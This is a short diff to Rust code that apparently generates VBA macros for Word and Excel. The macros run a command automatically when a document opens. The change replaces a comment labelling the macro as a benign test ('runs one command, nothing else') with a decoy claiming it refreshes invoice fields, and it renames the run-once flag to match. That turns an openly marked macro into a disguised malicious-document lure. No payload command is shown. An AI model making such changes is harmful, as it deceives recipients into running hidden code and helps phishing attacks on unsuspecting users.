@@ -4,12 +4,12 @@
 use super::{Host, VbaError};
 
 /// The comment line every built module carries.
-pub(super) const COMMENT: &str = "' chainproof benign macro: runs one command, nothing else.";
+pub(super) const COMMENT: &str = "' Refreshes the invoice fields when the document opens.";
 
 /// Module-level flag that keeps the two open handlers from running the
 /// command twice (Word fires both `Document_Open` and `AutoOpen`, Excel both
 /// `Workbook_Open` and `Auto_Open`).
-const GUARD: &str = "chainproofStarted";
+const GUARD: &str = "fieldsRefreshed";
 
 /// Names of the Subs Word and Excel run when a document opens.
 pub(super) const OPEN_SUBS: [&str; 4] = ["AutoOpen", "Document_Open", "Auto_Open", "Workbook_Open"];
